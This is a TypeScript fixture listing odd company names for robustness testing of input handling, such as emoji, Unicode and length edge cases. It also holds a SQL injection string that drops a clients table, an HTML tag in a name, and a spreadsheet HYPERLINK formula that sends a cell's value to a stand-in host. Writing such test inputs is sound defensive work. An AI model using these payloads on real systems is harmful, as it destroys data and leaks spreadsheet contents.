const LONG =
  "Internationale Gesellschaft zur Förderung, Erhaltung und Wiederherstellung historischer Binnenschifffahrtswege " +
  "sowie angrenzender Treidelpfade, Schleusenwärterhäuser und Nebenanlagen mit beschränkter Haftung & Co. KG";

/** Names that people do give their firms, or that somebody tries to break things with. */
export const ODD_NAMES: readonly string[] = [
  'The "Quoted" Company & <b>Sons</b>',
  '=HYPERLINK("http://sandbox.example/?"&A1,"Open")',
  "+49 Import/Export",
  "-2+3 Maths Tutors",
  "@Home Cleaning",
  "Robert'); DROP TABLE clients;--",
  LONG,
  "A",
  "0",
  "null",
  "Double  Space  and a tab\there",
  "{{name}} %s ${price}",
  "Back\\slash & Co.",
  "🦄 Unicorn Rides",
  "👩‍👩‍👧 Family Photos ☕️",
  "Cafe\u0301 De\u0301compose\u0301",
  "Zero\u200BWidth Media",
  "مقهى Right-to-Left كافيه",
  "ΑΒΓ / АБВ / ABC",
];
